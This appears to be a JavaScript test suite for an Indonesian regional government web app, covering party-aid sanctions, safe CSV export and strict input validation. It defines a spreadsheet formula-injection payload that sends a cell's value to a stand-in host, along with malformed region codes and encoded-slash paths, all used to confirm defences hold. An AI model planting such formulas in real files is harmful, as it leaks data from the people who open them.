// What outside testing found (issue 17), each as a user would meet it over HTTP: a party-aid
// sanction that the applicant's "first year" could switch off, spreadsheet exports that ran
// formulas and turned region codes into numbers (checked by opening the file in LibreOffice),
// loosely taken filters and search text, and error fields named unlike the request's.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';

import { assertProblem, finish, ifMatch, rawRequest, startServer } from './server.mjs';

const API = '/api/v1/party-aid';
const ago = (days) => new Date(Date.now() - days * 86_400_000).toISOString().slice(0, 10);
const SOFFICE = ['soffice', 'libreoffice'].find((b) => spawnSync(b, ['--version'], { encoding: 'utf8' }).status === 0);

let srv;
const as = {};

before(async () => {
  srv = await startServer();
  for (const u of ['admin', 'kalsel.kaban', 'kalsel.operator', 'banjarbaru.operator', 'banjarmasin.operator', 'banjarmasin.kaban']) {
    as[u] = await srv.login(u);
  }
});

after(() => finish(assert, srv));

describe('party aid: "first year" comes from the records', () => {
  const s = {};

  test('a late, unaudited LPJ for 2024 is on record: a 2025 "first year" claim is refused', async () => {
    const op = as['banjarbaru.operator'];
    let r = await op.post(`${API}/vote-values`, {
      region_code: '63.72', fiscal_year: 2025, value_per_vote: 1500, basis: 'DEFAULT_PP_1_2018',
      legal_basis: 'PP 1/2018 Pasal 5 ayat (3)', election_year: 2024,
    });
    assert.equal(r.status, 201, r.text);
    const csv = 'region_code,abbreviation,valid_votes,seats\n63.72,PKB,12000,3\n63.72,GOLKAR,15500,5\n';
    r = await op.request('POST', `${API}/election-results/import?election_year=2024`, { body: csv, headers: { 'Content-Type': 'text/csv' } });
    assert.equal(r.status, 201, r.text);
    r = await op.post(`${API}/boards`, {
      region_code: '63.72', party_abbreviation: 'PKB', decree_no: 'SK DPP PKB 63.72/2024', decree_date: '2024-10-01',
      chair: 'Ketua PKB', secretary: 'Sekretaris PKB', treasurer: 'Bendahara PKB', npwp: '01.234.567.8-901.000',
      bank_name: 'Bank Kalsel', bank_account_no: '0011223355', bank_account_holder: 'DPC PKB Kota Banjarbaru', valid_from: '2024-10-01',
    });
    assert.equal(r.status, 201, r.text);
    s.board = r.json.id;
    // The 2024 LPJ reached BPK on 10 March 2025, after the 31 January deadline, and is not audited.
    r = await op.post(`${API}/lpj`, { region_code: '63.72', party_abbreviation: 'PKB', fiscal_year: 2024, submitted_to_bpk: '2025-03-10' });
    assert.equal(r.status, 201, r.text);
    assert.equal(r.json.sanction_active, true);

    const claim = { board_id: s.board, fiscal_year: 2025, letter_no: '001/DPC-PKB/II/2025', letter_date: '2025-02-03', received_at: '2025-02-04' };
    r = await op.post(`${API}/applications`, { ...claim, first_year: true });
    const p = assertProblem(assert, r, 422);
    assert.deepEqual(p.errors.map((e) => [e.field, e.code]), [['first_year', 'contradicted']]);
    assert.match(p.errors[0].message.id, /2024/);
    assert.match(p.errors[0].message.en, /2024/);
    assert.equal((await op.get(`${API}/applications?region=63.72&year=2025`)).json.items.length, 0, 'nothing stored');

    r = await op.post(`${API}/applications`, { ...claim, first_year: false });
    assert.equal(r.status, 201, r.text);
    s.app = r.json;
    assert.equal(s.app.first_year, false);
    assert.equal(s.app.first_year_evidence_year, 2024);
    assert.equal(s.app.eligibility.outcome, 'REFUSED');
    assert.ok(s.app.eligibility.reasons.some((x) => x.code === 'sanction_active'), JSON.stringify(s.app.eligibility));
  });

  test('the positions view shows the sanction', async () => {
    const r = await as['banjarbaru.operator'].get(`${API}/positions?region=63.72&year=2025`);
    assert.equal(r.status, 200, r.text);
    const pkb = r.json.items.find((x) => x.party_abbreviation === 'PKB');
    assert.equal(pkb.sanction_active, true);
    assert.equal(pkb.eligibility.outcome, 'REFUSED');
  });

  test('an override is a reviewer\'s decision with a reason, audited, and it never lifts the sanction', async () => {
    const url = `${API}/applications/${s.app.id}/first-year`;
    const body = { first_year: true, reason: 'Kursi diperoleh kembali pada Pemilu 2024 setelah satu periode tanpa kursi.' };
    assertProblem(assert, await as['banjarbaru.operator'].patch(url, body, ifMatch(s.app.version)), 403);
    let r = await as['kalsel.kaban'].patch(url, { first_year: true, reason: '  ' }, ifMatch(s.app.version));
    assert.deepEqual(assertProblem(assert, r, 422).errors.map((e) => e.field), ['reason']);
    assertProblem(assert, await as['kalsel.kaban'].patch(url, body), 428);
    r = await as['kalsel.kaban'].patch(url, body, ifMatch(s.app.version));
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.first_year, true);
    assert.equal(r.json.first_year_override.reason, body.reason);
    assert.equal(r.json.version, s.app.version + 1);
    const audit = await as.admin.get(`/api/v1/audit?entity=banpol_application&id=${s.app.id}`);
    assert.equal(audit.status, 200, audit.text);
    assert.ok(audit.json.items.some((e) => e.action === 'first_year_decision'), audit.text);
    // Previous LPJ no longer required, but the late 2024 LPJ still bars the aid (PP 1/2018 Art. 16).
    assert.ok(r.json.eligibility.reasons.some((x) => x.code === 'sanction_active'), JSON.stringify(r.json.eligibility));
    const pos = await as['banjarbaru.operator'].get(`${API}/positions?region=63.72&year=2025`);
    assert.equal(pos.json.items.find((x) => x.party_abbreviation === 'PKB').sanction_active, true);
  });

  test('party-aid lists refuse a malformed region code, naming the field', async () => {
    for (const list of ['applications?year=2025&', 'boards?', 'lpj?', 'vote-values?']) {
      const r = await as['kalsel.kaban'].get(`${API}/${list}region=${encodeURIComponent("63.7'1")}`);
      assert.deepEqual(assertProblem(assert, r, 422).errors.map((e) => e.field), ['region'], list);
    }
  });
});

// The cells of the first sheet of a .fods (LibreOffice's flat XML) file: [{ type, text, formula }].
function fodsRows(xml) {
  const unescape = (t) => t.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
  const rows = [];
  for (const row of xml.match(/<table:table-row[^>]*>[\s\S]*?<\/table:table-row>/g) || []) {
    const cells = [];
    for (const m of row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
      const attrs = m[1];
      const repeat = Number((/table:number-columns-repeated="(\d+)"/.exec(attrs) || [])[1] || 1);
      const text = unescape((m[2] || '').replace(/<text:tab\/>/g, '\t').replace(/<[^>]+>/g, '').trim());
      const cell = { type: (/office:value-type="(\w+)"/.exec(attrs) || [])[1] || 'empty', text, formula: /table:formula=/.test(attrs) };
      for (let i = 0; i < Math.min(repeat, 64); ++i) cells.push(cell);
    }
    rows.push(cells);
  }
  return rows;
}

describe('CSV exports open safely in a spreadsheet', () => {
  test('incidents.csv: a formula in a text field stays text, region code 63.10 stays 63.10 (LibreOffice)', { skip: !SOFFICE && 'LibreOffice (libreoffice-calc-nogui) is not installed' }, async () => {
    const evil = '=HYPERLINK("http://contoh.invalid/?d="&A1;"klik")';
    let r = await as['kalsel.operator'].post('/api/v1/conflict/incidents', {
      region_code: '63.10', occurred_on: ago(3), source: 'SARA', type_code: 'CLASH.VILLAGE', info_source: 'PUBLIC',
      info_ref: '+6281234567890', description: evil,
    });
    assert.equal(r.status, 201, r.text);
    r = await as['kalsel.operator'].get('/api/v1/conflict/incidents.csv?region=63.10', { raw: true });
    assert.equal(r.status, 200);
    const text = r.bytes.toString('utf8');
    assert.ok(text.includes(`"'=HYPERLINK(`), 'the formula start is neutralised in the file');

    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pantau-csv-'));
    try {
      fs.writeFileSync(path.join(dir, 'insiden.csv'), r.bytes);
      // Opened as a user opens it: comma-separated UTF-8, LibreOffice's own type detection.
      const lo = spawnSync(SOFFICE, [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--infilter=CSV:44,34,76,1',
        '--convert-to', 'fods', '--outdir', dir, path.join(dir, 'insiden.csv')], { encoding: 'utf8', timeout: 180_000 });
      assert.equal(lo.status, 0, lo.stderr);
      const rows = fodsRows(fs.readFileSync(path.join(dir, 'insiden.fods'), 'utf8'));
      const head = rows[0].map((c) => c.text);
      const row = rows.find((cells) => cells[head.indexOf('description')]?.text.includes('HYPERLINK'));
      assert.ok(row, 'the incident is in the sheet');
      const cell = (name) => row[head.indexOf(name)];
      assert.equal(cell('region_code').text, '63.10', 'the code is not turned into the number 63.1');
      assert.equal(cell('region_code').type, 'string');
      assert.equal(cell('description').formula, false, 'no formula in the description cell');
      assert.equal(cell('description').type, 'string');
      assert.equal(cell('description').text, `'${evil}`);
      assert.equal(cell('info_ref').formula, false);
      assert.equal(cell('info_ref').text, "'+6281234567890");
      assert.equal(rows.flat().filter((c) => c.formula && !/^\d{2}(\.\d{2}){0,3}$/.test(c.text)).length, 0,
        'the only formulas are the region codes kept as text');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('input taken strictly', () => {
  test('unknown enumerated filter values are a 422 naming the parameter', async () => {
    const cases = [
      ['/api/v1/monitoring/events?category=TIDAK_ADA', 'category'],
      ['/api/v1/monitoring/events?status=TIDAK_ADA', 'status'],
      ['/api/v1/monitoring/reports?status=TIDAK_ADA', 'status'],
      ['/api/v1/monitoring/reports?type=TIDAK_ADA', 'type'],
      ['/api/v1/conflict/alerts?status=TIDAK_ADA', 'status'],
      ['/api/v1/conflict/reports?status=TIDAK_ADA', 'status'],
      ['/api/v1/org-units?kind=TIDAK_ADA', 'kind'],
      ['/api/v1/users?role=TIDAK_ADA', 'role'],
    ];
    for (const [url, field] of cases) {
      const r = await as.admin.get(url);
      assert.deepEqual(assertProblem(assert, r, 422).errors.map((e) => e.field), [field], url);
    }
    // Known values still answer.
    assert.equal((await as.admin.get('/api/v1/monitoring/events?category=ELECTION_STAGE')).status, 200);
    assert.equal((await as.admin.get('/api/v1/conflict/alerts?status=OPEN')).status, 200);
  });

  test('search text is literal: ?q=_ and ?q=% match no region', async () => {
    for (const q of ['_', '%', '%25', '6_.71']) {
      const r = await as.admin.get(`/api/v1/regions?q=${encodeURIComponent(q)}`);
      assert.equal(r.status, 200, r.text);
      assert.equal(r.json.items.length, 0, `?q=${q}`);
    }
    assert.ok((await as.admin.get('/api/v1/regions?q=banjar')).json.items.length > 0);
    assert.ok((await as.admin.get(`/api/v1/regions?q=${encodeURIComponent('BANJÁR')}`)).json.items.length > 0, 'accents fold');
  });

  test('a region path with an encoded slash or a trailing slash is not another region', async () => {
    const head = (p) => `GET ${p} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: ${as.admin.cookie}\r\nConnection: close\r\n\r\n`;
    assert.equal((await rawRequest(srv.port, head('/api/v1/regions/63.71'))).status, 200);
    for (const p of ['/api/v1/regions/63.71%2F', '/api/v1/regions/63.71/', '/api/v1/regions/63.71%2f']) {
      const r = await rawRequest(srv.port, head(p));
      assert.equal(r.status, 404, `${p}: ${r.text}`);
    }
  });

  test('region codes with surrounding spaces are refused', async () => {
    const r = await as['banjarmasin.operator'].post('/api/v1/conflict/incidents', {
      region_code: ' 63.71', occurred_on: ago(1), source: 'SARA', type_code: 'CLASH.VILLAGE', info_source: 'FIELD',
    });
    assert.deepEqual(assertProblem(assert, r, 422).errors.map((e) => [e.field, e.code]), [['region_code', 'region_code']]);
  });

  test('conflict alerts honour ?region=', async () => {
    for (const [region, reg] of [['63.71', 'banjarmasin.operator'], ['63.10', 'kalsel.operator']]) {
      const r = await as[reg].post('/api/v1/conflict/incidents', {
        region_code: region, occurred_on: ago(2), source: 'NATURAL_RESOURCE_DISPUTE', type_code: 'LAND.PLANTATION', info_source: 'MEDIA', fatalities: 1,
      });
      assert.equal(r.status, 201, r.text);
    }
    const all = (await as['kalsel.kaban'].get('/api/v1/conflict/alerts')).json.items;
    assert.ok(all.some((a) => a.region_code === '63.10') && all.some((a) => a.region_code.startsWith('63.71')), JSON.stringify(all.map((a) => a.region_code)));
    const r = await as['kalsel.kaban'].get('/api/v1/conflict/alerts?region=63.71');
    assert.equal(r.status, 200, r.text);
    assert.ok(r.json.items.length > 0);
    assert.ok(r.json.items.every((a) => a.region_code === '63.71' || a.region_code.startsWith('63.71.')), JSON.stringify(r.json.items.map((a) => a.region_code)));
    assertProblem(assert, await as['kalsel.kaban'].get('/api/v1/conflict/alerts?region=63.7'), 422);
    // Outside the caller's scope the filter finds nothing, it does not widen the scope.
    assert.equal((await as['banjarmasin.operator'].get('/api/v1/conflict/alerts?region=63.10')).json.items.length, 0);
  });

  test('error fields are named as in the request: status extension "days", a duration of 0 days', async () => {
    const kaban = as['banjarmasin.kaban'];
    const body = { scale: 'KABKOTA', region_code: '63.71', decree_number: '188.45/99/KUM/2026', start_date: ago(0), duration_days: 0 };
    let r = await kaban.post('/api/v1/conflict/statuses', body);
    let p = assertProblem(assert, r, 422);
    assert.equal(p.errors[0].field, 'duration_days');
    assert.match(p.errors[0].message.en, /between 1 and 90 days/);
    r = await kaban.post('/api/v1/conflict/statuses', { ...body, duration_days: 30 });
    assert.equal(r.status, 201, r.text);
    const id = r.json.id;
    const status = (await kaban.get('/api/v1/conflict/statuses')).json.items.find((x) => x.id === id);
    r = await kaban.post(`/api/v1/conflict/statuses/${id}/extend`, { days: 0, decree_number: '188.45/100/KUM/2026' }, ifMatch(status.version));
    p = assertProblem(assert, r, 422);
    assert.deepEqual(p.errors.map((e) => e.field), ['days']);
    assert.match(p.errors[0].message.en, /between 1 and 30 days/);
  });
});
